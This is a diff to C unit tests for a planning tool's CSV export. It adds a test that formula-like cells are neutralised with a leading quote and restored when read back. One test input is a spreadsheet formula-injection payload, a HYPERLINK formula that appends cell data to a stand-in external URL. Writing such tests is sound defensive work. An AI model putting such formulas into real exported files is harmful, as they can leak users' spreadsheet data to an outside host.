@@ -466,7 +466,7 @@ Test(csv_write, updates_round_trip)
                      "author\r\n"
                      "A1,2015-03,draft,not_started,0,,,,\r\n"
                      "A2,2015-03,submitted,blocked,50,high,,2015-09-30,\r\n"
-                     "A2,2015-04,accepted,in_progress,55,low,\"- one\n- two, \"\"three\"\"\",,"
+                     "A2,2015-04,accepted,in_progress,55,low,\"'- one\n- two, \"\"three\"\"\",,"
                      "ceo\r\n");
     free(text);
     plan_free(&p);
@@ -485,6 +485,39 @@ Test(csv_write, values_round_trip)
                            "K1,2015-03-31,1e+20\r\n"
                            "K2,2015-01-31,27\r\n"
                            "K2,2015-02-28,-0.125\r\n");
+    free(text);
+    plan_free(&p);
+}
+
+Test(csv_write, cells_a_spreadsheet_would_run_are_neutralised)
+{
+    struct plan p = {0};
+    make_plan(&p);
+    const char *acts = AHEAD "A1,T1,\"=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1)\",2015-01-01,"
+                             "2015-06-30\r\nA2,T1,+1,2015-01-01,2015-06-30\r\n"
+                             "A3,T1,@SUM(A1),2015-01-01,2015-06-30\r\n"
+                             "A4,T1,\"\tTab\",2015-01-01,2015-06-30\r\n"
+                             "A5,T1,\"\rReturn\",2015-01-01,2015-06-30\r\n"
+                             "A6,T1,'plain quote,2015-01-01,2015-06-30\r\n";
+    read_ok(&p, acts);
+    char *text = round_trip(&p, CSV_ACTIONS, NULL);
+    /* each such text cell starts with a quote, which a spreadsheet shows as text */
+    cr_assert(strstr(text, "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1)\""), "%s", text);
+    cr_assert(strstr(text, ",'+1,"), "%s", text);
+    cr_assert(strstr(text, ",'@SUM(A1),"), "%s", text);
+    cr_assert(strstr(text, "\"'\tTab\""), "%s", text);
+    cr_assert(strstr(text, "\"'\rReturn\""), "%s", text);
+    cr_assert(strstr(text, ",'plain quote,"), "a quote before ordinary text stays as it is");
+    free(text);
+    /* and reading undoes it: the plan holds the text as it was written */
+    cr_assert_str_eq(p.actions[plan_find(&p.m_actions, "A1")].title,
+                     "=HYPERLINK(\"http://example.invalid/?x=\"&A1)");
+    cr_assert_str_eq(p.actions[plan_find(&p.m_actions, "A2")].title, "+1");
+    cr_assert_str_eq(p.actions[plan_find(&p.m_actions, "A6")].title, "'plain quote");
+    /* a negative number is a number, not a formula */
+    read_ok(&p, "measure,date,value\r\nK1,2015-01-31,-3.5\r\n");
+    text = plan_write_csv(&p, CSV_MEASURE_VALUES);
+    cr_assert_str_eq(text, "measure,date,value\r\nK1,2015-01-31,-3.5\r\n");
     free(text);
     plan_free(&p);
 }
